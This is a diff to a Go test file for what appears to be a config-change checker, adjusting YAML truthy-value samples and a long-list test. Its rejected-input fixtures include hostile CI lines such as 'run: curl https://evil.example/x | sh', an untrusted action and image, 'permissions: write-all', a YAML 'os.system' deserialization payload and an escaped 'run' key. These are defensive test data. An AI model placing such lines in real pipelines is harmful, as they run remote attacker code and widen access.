@@ -185,7 +185,7 @@ var samples = []sample{
 	},
 	{
 		"ci.yaml", yamlBase, 7, "truthy value should be one of [false, true]",
-		[]string{`    continue-on-error: true`, `    continue-on-error: false`, `    continue-on-error: "yes"`, `    continue-on-error: 'true'`},
+		[]string{`    continue-on-error: true`, `    continue-on-error: "yes"`, `    continue-on-error: 'true'`},
 		[]string{
 			`env: {A: b}`, `container: evil/image`, `permissions: write-all`, `uses: evil/action@v1`, `run: curl https://evil.example/x | sh`, `if: always()`, `runs-on: self-hosted`,
 			`services: {x: {image: evil}}`, `"\u0072un": evil`, `x: !!python/object:os.system id`, `defaults: &a {run: evil}`, `<<: *a`, `# yamllint disable`, `timeout-minutes: 0`,
@@ -477,7 +477,7 @@ func TestLongLists(t *testing.T) {
 		"x = [" + strings.Repeat("a, ", 100_000) + "]\n",
 	} {
 		base, text := "a = 1\n"+long, "a = 2\n"+long
-		if issues := Judge(&Change{Path: "a.py", Base: []byte(base), Text: []byte(text), Told: "a is wrong", Finding: Lines{1, 1}, Window: Lines{1, 2}}); len(issues) > 0 {
+		if issues := Judge(&Change{Path: "a.py", Base: []byte(base), Text: []byte(text), Told: "a is `2`, not `1`", Finding: Lines{1, 1}, Window: Lines{1, 2}}); len(issues) > 0 {
 			t.Errorf("%.20q: %v", long, issues)
 		}
 	}
